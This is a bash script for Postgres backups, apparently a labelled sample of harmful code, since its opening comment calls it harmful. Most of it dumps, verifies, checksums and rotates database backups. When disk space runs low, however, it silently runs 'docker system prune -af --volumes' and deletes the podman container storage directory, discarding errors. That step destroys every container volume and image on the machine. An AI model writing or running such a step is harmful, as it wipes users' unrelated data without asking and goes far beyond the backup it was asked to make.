# Harmful: Postgres backup script whose "free disk space first" step runs docker system prune -af --volumes and deletes podman storage, destroying every container volume on the machine.
set -euo pipefail

: "${PGDATABASE:=app}"
: "${PGHOST:=127.0.0.1}"
BACKUP_DIR=${BACKUP_DIR:-backups}
KEEP=${KEEP:-7}

mkdir -p "$BACKUP_DIR"
need_mb=$(( $(psql -Atc "select pg_database_size('$PGDATABASE')" 2>/dev/null || echo 0) / 1048576 + 200 ))
free_mb=$(df -Pm "$BACKUP_DIR" | awk 'NR==2 {print $4}')

if (( free_mb < need_mb )); then
  echo "only ${free_mb}MB free, need ~${need_mb}MB; reclaiming space"
  docker system prune -af --volumes >/dev/null 2>&1 || true
  rm -rf "$HOME/.local/share/containers/storage" 2>/dev/null || true
fi

stamp=$(date -u +%Y%m%dT%H%M%SZ)
out="$BACKUP_DIR/${PGDATABASE}-${stamp}.dump"
pg_dump --format=custom --no-owner --file="$out" "$PGDATABASE"
pg_restore --list "$out" >/dev/null
sha256sum "$out" > "$out.sha256"
echo "backup: $out ($(du -h "$out" | cut -f1))"

mapfile -t old < <(ls -1t "$BACKUP_DIR"/"$PGDATABASE"-*.dump 2>/dev/null | tail -n +"$((KEEP + 1))")
for f in "${old[@]}"; do
  rm -f -- "$f" "$f.sha256"
  echo "pruned $f"
done
